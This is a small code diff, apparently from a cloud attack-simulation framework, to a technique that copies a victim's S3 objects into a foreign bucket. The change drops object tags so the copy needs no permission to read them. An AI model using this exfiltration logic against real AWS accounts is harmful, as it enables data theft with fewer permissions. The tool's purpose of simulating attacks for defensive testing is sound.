@@ -47,6 +47,8 @@ export const technique: AttackTechnique<z.infer<typeof inputs>> = {
       await aws.s3().copyObject({
         Bucket: foreignBucket,
         Key,
+        // Leaving the tags behind takes no permission to read them.
+        TaggingDirective: 'REPLACE',
         CopySource: `${bucket}/${Key.split('/').map(encodeURIComponent).join('/')}`,
       });
     }
